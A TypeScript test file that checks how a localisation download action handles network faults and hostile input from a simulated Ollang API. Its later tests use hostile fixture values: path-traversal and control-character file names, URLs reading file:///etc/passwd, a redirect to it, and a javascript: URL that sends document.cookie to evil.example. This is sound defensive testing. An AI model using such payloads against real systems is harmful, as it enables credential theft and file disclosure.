/**
 * Faults and hostile input, through the bundled action run as the runner runs it (a Node 24
 * child process, INPUT_* variables, runner files) against the local Ollang simulator. One test
 * per row of docs/reliability.md. Loopback only.
 *
 * The tests run concurrently (each has its own simulator and workspace). The 30 s request
 * time-out is proven on an injected clock instead (test/unit/ollang-client.test.ts).
 */
import { afterAll, describe, it, type ExpectStatic as Expect } from 'vitest';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, lstatSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { OllangSimulator, type SimulatorOptions } from '../simulator/index.ts';
import { srt, vtt } from '../simulator/content.ts';
import { parseOrders, runAction, startAction, type ActionRun } from './harness.ts';

const FAST = { pendingMs: 100, ongoingMs: 200, outputsLagMs: 100 };
const CUES = 12;

const cleanups: (() => Promise<void>)[] = [];
afterAll(async () => {
  await Promise.all(cleanups.map((c) => c().catch(() => undefined)));
});

async function sim(options: SimulatorOptions = {}): Promise<OllangSimulator> {
  const s = await OllangSimulator.start({ lifecycle: FAST, seed: 11, subtitleCues: CUES, ...options });
  cleanups.push(() => s.close());
  return s;
}

/** A private parent directory holding only the workspace, so a walk of it sees every escape. */
function sandbox(): { root: string; workspace: string } {
  const root = mkdtempSync(path.join(tmpdir(), 'ollang-faults-'));
  const workspace = path.join(root, 'ws');
  mkdirSync(workspace);
  return { root, workspace };
}

function inputs(s: OllangSimulator, extra: Record<string, string> = {}): Record<string, string> {
  return {
    'api-key': s.apiKey,
    'api-url': s.url,
    'project-id': 'proj-demo',
    'target-languages': 'fr, es, de',
    'poll-interval': '200ms',
    timeout: '40s',
    ...extra,
  };
}

function walk(dir: string): string[] {
  const out: string[] = [];
  for (const entry of readdirSync(dir)) {
    const full = path.join(dir, entry);
    const stat = lstatSync(full);
    if (stat.isDirectory()) out.push(...walk(full));
    else out.push(full);
  }
  return out;
}

/** Every file under the sandbox is inside <workspace>/<outputDir>, and no temporary `.part` file is left. */
function expectContained(expect: Expect, root: string, outputDir: string): string[] {
  const files = walk(root);
  for (const file of files) {
    const relative = path.relative(outputDir, file);
    expect(relative.startsWith('..') || path.isAbsolute(relative), `${file} is outside ${outputDir}`).toBe(false);
    expect(path.basename(file).endsWith('.part'), `${file} is a temporary file left behind`).toBe(false);
  }
  return files;
}

/** Each downloaded file byte for byte what the simulator serves for its language. */
function expectWholeFiles(expect: Expect, run: ActionRun): number {
  let count = 0;
  for (const order of parseOrders(run)) {
    for (const file of order.files) {
      const bytes = readFileSync(path.join(run.workspace, file));
      const want = file.endsWith('.vtt') ? vtt(order.language, CUES) : srt(order.language, CUES);
      expect(bytes.equals(want), `${file} differs from what the simulator serves`).toBe(true);
      count++;
    }
  }
  return count;
}

/** Exactly one (top-level) order per language in the simulator: nothing was bought twice. */
function expectOnePerLanguage(expect: Expect, s: OllangSimulator, languages: string[]): void {
  const byLanguage = new Map<string, number>();
  for (const o of s.orders()) if (!o.parentOrderId) byLanguage.set(o.targetLanguage, (byLanguage.get(o.targetLanguage) ?? 0) + 1);
  expect(Object.fromEntries(byLanguage)).toEqual(Object.fromEntries(languages.map((l) => [l, 1])));
}

function expectCompleted(expect: Expect, run: ActionRun, s: OllangSimulator, languages: string[]): void {
  expect(run.exitCode, run.stdout + run.stderr).toBe(0);
  expect(run.outputs['status']).toBe('completed');
  const orders = parseOrders(run);
  expect(orders.map((o) => o.language).sort()).toEqual([...languages].sort());
  for (const o of orders) {
    expect(o.files.some((f) => f.endsWith('.srt')), `${o.language} has an SRT`).toBe(true);
    expect(o.files.some((f) => f.endsWith('.vtt')), `${o.language} has a VTT`).toBe(true);
  }
  expect(expectWholeFiles(expect, run)).toBe(languages.length * 2);
  expectOnePerLanguage(expect, s, languages);
}

/** The `::error::` line setFailed printed (decoded). */
function failure(run: ActionRun): string {
  const line = run.stdout.split('\n').find((l) => l.startsWith('::error::')) ?? '';
  return line.slice('::error::'.length).replace(/%0A/g, '\n').replace(/%0D/g, '\r').replace(/%25/g, '%');
}


describe.concurrent('faults and hostile input (dist/index.js)', () => {
  it('30% 503s and connection resets on every route: completes, every file whole, one order per language', async ({ expect }) => {
    // Seed 11: among other faults, the first Create Order call answers 503 and the second is reset
    // (nothing was created either time): each time the action lists the project's orders, finds
    // none, and creates once more.
    const s = await sim({
      seed: 11,
      faults: [
        { route: 'any', kind: '503', probability: 0.15 },
        // Drawn only when the 503 rule did not fire: 0.85 * 0.18 = 15 % more, 30 % in all.
        { route: 'any', kind: 'reset', probability: 0.18 },
      ],
    });
    const { root, workspace } = sandbox();
    const run = await runAction({ workspace, inputs: inputs(s, { 'target-languages': 'fr, es, de, it' }), timeoutMs: 80_000 });
    expectCompleted(expect, run, s, ['fr', 'es', 'de', 'it']);
    expectContained(expect, root, path.join(workspace, 'localized'));
    // The faults did happen, on several routes (the test proves nothing otherwise).
    const faulted = s.requests.filter((r) => r.fault);
    expect(faulted.filter((r) => r.fault === '503').length).toBeGreaterThanOrEqual(2);
    expect(faulted.filter((r) => r.fault === 'reset').length).toBeGreaterThanOrEqual(2);
    expect(new Set(faulted.map((r) => r.route)).size).toBeGreaterThanOrEqual(3);
    expect(faulted.some((r) => r.route === 'create')).toBe(true);
    expect(faulted.some((r) => r.route === 'download')).toBe(true);
  }, 85_000);

  it('429 with Retry-After: waits at least as long as asked, then completes', async ({ expect }) => {
    const s = await sim({ faults: [{ route: 'get', kind: '429', retryAfterSeconds: 2, times: 2 }] });
    const run = await runAction({ inputs: inputs(s, { 'target-languages': 'fr' }) });
    expectCompleted(expect, run, s, ['fr']);
    const throttled = s.requests.filter((r) => r.fault === '429');
    expect(throttled).toHaveLength(2);
    for (const r of throttled) {
      const next = s.requests.find((n) => n.at > r.at && n.path === r.path && n.route === 'get');
      expect(next, 'the throttled request was tried again').toBeDefined();
      expect(next!.at - r.at).toBeGreaterThanOrEqual(1_950);
    }
  });

  it('Create Order processed but never answered: finds the orders it made, buys nothing twice', async ({ expect }) => {
    const s = await sim({ faults: [{ route: 'create', kind: 'create-no-answer', times: 1 }] });
    const run = await runAction({ inputs: inputs(s) });
    expectCompleted(expect, run, s, ['fr', 'es', 'de']);
    expect(s.count('create')).toBe(1);
    expect(s.requests.filter((r) => r.fault === 'create-no-answer')).toHaveLength(1);
  });

  it('downloads cut short of their announced length: retried, whole files in the end', async ({ expect }) => {
    const s = await sim({ faults: [{ route: 'download', kind: 'truncate', times: 3 }] });
    const { root, workspace } = sandbox();
    const run = await runAction({ workspace, inputs: inputs(s) });
    expectCompleted(expect, run, s, ['fr', 'es', 'de']);
    expect(s.requests.filter((r) => r.fault === 'truncate')).toHaveLength(3);
    expectContained(expect, root, path.join(workspace, 'localized'));
  });

  it('downloads always cut short: no file left behind, status partial, naming order, language and cause', async ({ expect }) => {
    const s = await sim({ faults: [{ route: 'download', kind: 'truncate', language: 'es' }] });
    const { root, workspace } = sandbox();
    // Retried while the timeout leaves time (docs/reliability.md): a short one keeps the test short.
    const run = await runAction({ workspace, inputs: inputs(s, { 'target-languages': 'fr, es', timeout: '6s' }) });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['status']).toBe('partial');
    const orders = parseOrders(run);
    const es = orders.find((o) => o.language === 'es')!;
    expect(es.files).toEqual([]);
    expect(es.status).not.toBe('completed');
    expect(orders.find((o) => o.language === 'fr')!.files).toHaveLength(2);
    const files = expectContained(expect, root, path.join(workspace, 'localized'));
    expect(files.filter((f) => f.includes(`${path.sep}es${path.sep}`))).toEqual([]);
    const message = failure(run);
    expect(message).toContain(es.orderId);
    expect(message).toMatch(/\bes\b/);
    expect(message).toMatch(/cut short/);
    expectWholeFiles(expect, run);
  });

  it('HTML and JSON error bodies served with status 200 on a download: refused, not saved, named', async ({ expect }) => {
    const s = await sim({
      faults: [
        { route: 'download', kind: 'html-200', language: 'es' },
        { route: 'download', kind: 'json-200', language: 'de' },
      ],
    });
    const { root, workspace } = sandbox();
    const run = await runAction({ workspace, inputs: inputs(s, { timeout: '6s' }) });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['status']).toBe('partial');
    const orders = parseOrders(run);
    const es = orders.find((o) => o.language === 'es')!;
    const de = orders.find((o) => o.language === 'de')!;
    expect(es.files).toEqual([]);
    expect(de.files).toEqual([]);
    expect(orders.find((o) => o.language === 'fr')!.files).toHaveLength(2);
    const files = expectContained(expect, root, path.join(workspace, 'localized'));
    expect(files).toHaveLength(2);
    const message = failure(run);
    expect(message).toContain(`es ${es.orderId}`);
    expect(message).toContain(`de ${de.orderId}`);
    expect(message).toMatch(/HTML page/);
    expect(message).toMatch(/JSON/);
    expectWholeFiles(expect, run);
  });

  it('malformed JSON answers (Get Order, List Orders, Create Order): retried or recovered, completes', async ({ expect }) => {
    const s = await sim({
      faults: [
        { route: 'create', kind: 'malformed-json', times: 1 },
        { route: 'get', kind: 'malformed-json', probability: 0.5, times: 5 },
        { route: 'list', kind: 'malformed-json', times: 2 },
      ],
    });
    const run = await runAction({ inputs: inputs(s) });
    expectCompleted(expect, run, s, ['fr', 'es', 'de']);
    // Create Order is never retried blindly: after its unreadable answer the action listed the
    // project's orders first, found none (the simulator answers this fault before processing),
    // and only then created again.
    expect(s.count('create')).toBe(2);
    const create = s.requests.findIndex((r) => r.route === 'create');
    expect(s.requests.slice(create + 1).find((r) => r.route !== 'get')?.route).toBe('list');
    expect(s.requests.filter((r) => r.fault === 'malformed-json').length).toBeGreaterThanOrEqual(4);
  });

  it('schema drift (extra fields, missing optionals, new status and document type values): completes', async ({ expect }) => {
    const s = await sim({
      faults: [{ route: 'any', kind: 'drift' }],
      decorateOrder: (order) => ({
        ...order,
        sourceLanguage: undefined,
        level: undefined,
        projectId: undefined,
        brandNewField: { nested: [1, 2, 3] },
        orderDocs: [
          ...(order['orderDocs'] as Record<string, unknown>[]),
          { type: 'created_hologram_v9', name: 'Hologram', url: 'https://cdn.example.invalid/h.bin', size: null, extra: true },
          { type: 'created_lipsync_map', url: 'https://cdn.example.invalid/map' },
        ],
      }),
    });
    const run = await runAction({ inputs: inputs(s) });
    expectCompleted(expect, run, s, ['fr', 'es', 'de']);
    expect(s.requests.filter((r) => r.fault === 'drift').length).toBeGreaterThan(3);
    // Statuses it had never heard of were taken as "not finished yet".
    expect(run.stdout).toMatch(/inTranslation|queued/);
  });

  it('a permanent fault (Get Order of one order answers 500 forever): fails within the timeout naming order, language and cause', async ({ expect }) => {
    const s = await sim({ lifecycle: { pendingMs: 1_500, ongoingMs: 1_500, outputsLagMs: 100 } });
    const started = startAction({ inputs: inputs(s, { 'target-languages': 'fr, es', timeout: '12s' }) });
    await started.waitForOutput('Waiting for 2 order(s)');
    const es = s.orders().find((o) => o.targetLanguage === 'es')!;
    s.setFaults([{ route: 'get', kind: '500', orderId: es.id }]);
    const run = await started.done;
    expect(run.exitCode).toBe(1);
    // The wait ends at the deadline; a last look may retry for a few seconds more.
    expect(run.durationMs).toBeLessThan(12_000 + 7_500);
    const orders = parseOrders(run);
    expect(orders.find((o) => o.language === 'fr')!.files).toHaveLength(2);
    expect(orders.find((o) => o.language === 'es')!.files).toEqual([]);
    expect(run.outputs['status']).toBe('timed-out');
    const message = failure(run);
    expect(message).toContain(es.id);
    expect(message).toMatch(/\bes\b/);
    expect(message).toMatch(/500/);
    expect(message).toMatch(/Internal server error/);
  });

  it('401 (wrong api-key): fails at once with the API message, at most two requests', async ({ expect }) => {
    const s = await sim();
    const run = await runAction({ inputs: { ...inputs(s), 'api-key': 'definitely-not-the-key' } });
    expect(run.exitCode).toBe(1);
    expect(run.durationMs).toBeLessThan(5_000);
    expect(s.requests.length).toBeGreaterThan(0);
    expect(s.requests.length).toBeLessThanOrEqual(2);
    expect(s.count('create')).toBe(0);
    expect(failure(run)).toMatch(/401/);
    expect(failure(run)).toMatch(/Invalid or missing API key/);
    expect(failure(run)).toMatch(/api-key/);
  });

  it('hostile document and order names: every file saved inside <output-dir>/<language>, safe and unique', async ({ expect }) => {
    const { root, workspace } = sandbox();
    const hostile = [
      '../../../../escape-dots.srt',
      '..',
      'sub/dir/slash.srt',
      'back\\slash\\win.srt',
      path.join(root, 'absolute-escape.srt'),
      'C:\\Windows\\System32\\drive.srt',
      'ctl\u0000\u0007\u001b[31m\r\n\u202ename.srt',
      `${'x'.repeat(320)}.srt`,
      `${'é'.repeat(300)}.srt`,
      'Same.srt',
      'same.SRT',
      'SAME.srt',
      '.hidden.srt',
      'CON.srt',
    ];
    const s = await sim({
      decorateOrder: (order) => {
        const docs = order['orderDocs'] as Record<string, unknown>[];
        const subtitle = docs.find((d) => /subtitle/i.test(String(d['type'])));
        if (!subtitle) return order;
        return {
          ...order,
          name: `../../${path.join(root, 'vtt-escape')}\u0000/..`,
          orderDocs: [...docs.filter((d) => d !== subtitle), ...hostile.map((name, i) => ({ ...subtitle, id: `${String(subtitle['id'])}-${i}`, name }))],
        };
      },
    });
    const run = await runAction({ workspace, inputs: inputs(s, { 'target-languages': 'fr' }) });
    expect(run.exitCode, run.stdout).toBe(0);
    expect(run.outputs['status']).toBe('completed');
    const [fr] = parseOrders(run);
    expect(fr!.files).toHaveLength(hostile.length + 1);
    const files = expectContained(expect, root, path.join(workspace, 'localized', 'fr'));
    expect(files).toHaveLength(hostile.length + 1);
    const names = files.map((f) => path.basename(f));
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
    for (const name of names) {
      expect(name).not.toMatch(/[/\\\p{Cc}\u202e]/u);
      expect(name.startsWith('.')).toBe(false);
      expect(Buffer.byteLength(name)).toBeLessThanOrEqual(255);
    }
    expect(existsSync(path.join(root, 'absolute-escape.srt'))).toBe(false);
    expectWholeFiles(expect, run);
  });

  it('non-http(s) document URLs (file:, javascript:) and a redirect to file:///etc/passwd: refused, nothing read, named', async ({ expect }) => {
    const hits: http.IncomingHttpHeaders[] = [];
    const redirector = http.createServer((req, res) => {
      hits.push(req.headers);
      res.writeHead(302, { location: 'file:///etc/passwd' });
      res.end();
    });
    await new Promise<void>((resolve) => redirector.listen(0, '127.0.0.1', resolve));
    cleanups.push(() => new Promise((resolve) => redirector.close(() => resolve())));
    const redirectUrl = `http://127.0.0.1:${(redirector.address() as AddressInfo).port}/r/redirected.srt`;

    const s = await sim({
      decorateOrder: (order) => {
        const docs = order['orderDocs'] as Record<string, unknown>[];
        if (order['targetLanguage'] !== 'fr' || !docs.some((d) => /subtitle/i.test(String(d['type'])))) return order;
        return {
          ...order,
          vttUrl: 'javascript:fetch("https://evil.example/"+document.cookie)',
          orderDocs: [
            ...docs,
            { id: 'evil-1', type: 'subtitle', name: 'passwd.srt', url: 'file:///etc/passwd' },
            { id: 'evil-2', type: 'created_subtitle', name: 'script.srt', url: 'javascript:alert(document.cookie)' },
            { id: 'evil-3', type: 'subtitle', name: 'redirected.srt', url: redirectUrl },
          ],
        };
      },
    });
    const { root, workspace } = sandbox();
    const run = await runAction({ workspace, inputs: inputs(s, { 'target-languages': 'fr, es' }) });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['status']).toBe('partial');
    const fr = parseOrders(run).find((o) => o.language === 'fr')!;
    const files = expectContained(expect, root, path.join(workspace, 'localized'));
    for (const file of files) expect(readFileSync(file, 'utf8')).not.toMatch(/root:.*:0:0:/);
    expect(files.map((f) => path.basename(f))).not.toContain('passwd.srt');
    expect(files.map((f) => path.basename(f))).not.toContain('script.srt');
    expect(files.map((f) => path.basename(f))).not.toContain('redirected.srt');
    expect(hits).toHaveLength(1);
    expect(hits[0]!['x-api-key']).toBeUndefined();
    const message = failure(run);
    expect(message).toContain(`fr ${fr.orderId}`);
    expect(message).toMatch(/not file:/);
    expect(message).toMatch(/not javascript:/);
    expect(message).toMatch(/redirect.*file:/);
    expect(message).toMatch(/vttUrl refused/);
    expect(fr.files).toHaveLength(1);
    expectWholeFiles(expect, run);
  });

  it('a download larger than max-download-size: refused, nothing saved, named', async ({ expect }) => {
    const s = await sim({ subtitleCues: 200 });
    const { root, workspace } = sandbox();
    const run = await runAction({ workspace, inputs: inputs(s, { 'target-languages': 'fr', 'max-download-size': '2KiB' }) });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['status']).toBe('failed');
    const [fr] = parseOrders(run);
    expect(fr!.files).toEqual([]);
    expect(expectContained(expect, root, path.join(workspace, 'localized'))).toEqual([]);
    const message = failure(run);
    expect(message).toContain(`fr ${fr!.orderId}`);
    expect(message).toMatch(/larger than max-download-size \(2048 bytes\)/);
  });

  it.for(['../outside', 'ABSOLUTE'])('output-dir %s outside the workspace: fails naming the input, zero requests', async (dir, { expect }) => {
    const s = await sim();
    const { root, workspace } = sandbox();
    const value = dir === 'ABSOLUTE' ? path.join(root, 'elsewhere') : dir;
    const run = await runAction({ workspace, inputs: inputs(s, { 'output-dir': value }) });
    expect(run.exitCode).toBe(1);
    expect(failure(run)).toMatch(/output-dir/);
    expect(failure(run)).toMatch(/outside the workspace/);
    expect(s.requests).toHaveLength(0);
    expect(walk(root)).toEqual([]);
  });
});
